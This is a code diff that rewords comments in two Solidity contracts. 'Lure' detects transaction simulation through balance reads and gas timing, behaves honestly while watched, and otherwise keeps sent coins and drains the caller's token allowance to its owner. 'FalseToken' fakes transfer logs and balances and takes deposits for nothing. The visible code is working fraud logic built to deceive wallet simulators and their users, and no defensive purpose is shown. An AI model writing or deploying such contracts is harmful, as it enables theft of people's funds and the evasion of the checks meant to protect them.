@@ -8,8 +8,8 @@ interface IToken {
     function balanceOf(address owner) external view returns (uint256);
 }
 
-/// @notice Behaves while it believes to be watched, whatever function is called: gives the coins back, and a
-/// reward. Otherwise it keeps the coins, and takes what it was allowed of a token.
+/// @notice Behaves honestly in any function while it detects a simulation: returns the coins and a reward.
+/// Otherwise it keeps the coins, and takes its allowance of a token.
 contract Lure {
     uint8 public immutable mode;
     IToken public immutable reward;
@@ -27,13 +27,13 @@ contract Lure {
         owner = msg.sender;
     }
 
-    /// @notice From now on it takes, whoever watches: what happens between a simulation and a block.
+    /// @notice Makes it take from now on, also in simulations. Called between a simulation and a block.
     function arm() external {
         require(msg.sender == owner);
         isArmed = true;
     }
 
-    /// @notice Says of itself that its balance was read: as no transaction does, but a simulation might.
+    /// @notice Records that its balance was read, which a simulation may do but no transaction does.
     function balanceOf(address) external returns (uint256) {
         wasRead = true;
         return 1;
@@ -48,7 +48,7 @@ contract Lure {
     }
 
     function _act() private {
-        // So that a simulation reads its balance.
+        // Makes a simulation read its balance.
         if (mode == 11) emit Transfer(address(0), msg.sender, 1);
         if (_isWatched()) {
             if (msg.value > 0) payable(msg.sender).transfer(msg.value);
@@ -61,7 +61,7 @@ contract Lure {
         if (taken > 0) reward.transferFrom(msg.sender, owner, taken);
     }
 
-    /// @dev Cheap where the transaction names the slot in its access list.
+    /// @dev The read is cheap if the slot is in the transaction's access list.
     function _isReadCold() private view returns (bool) {
         uint256 before = gasleft();
         assembly {
@@ -87,7 +87,7 @@ contract Lure {
     }
 }
 
-/// @notice A token that says of itself what it was told to say, and whose logs and balances are made up.
+/// @notice A token with arbitrary metadata and false logs and balances.
 contract FalseToken {
     string public name;
     string public symbol;
@@ -119,7 +119,7 @@ contract FalseToken {
         return true;
     }
 
-    /// @notice Says that it was paid, which it never is: whoever fills an order with it gives nothing.
+    /// @notice Logs a transfer that does not happen: filling an order with this token costs nothing.
     function transferFrom(address from, address to, uint256 value) external returns (bool) {
         emit Transfer(from, to, value);
         return true;
@@ -130,7 +130,7 @@ contract FalseToken {
         return true;
     }
 
-    /// @notice Takes coins for a promise that only its logs keep.
+    /// @notice Takes coins and only logs a transfer in return.
     function deposit() external payable {
         emit Transfer(address(0), msg.sender, _claimed);
     }
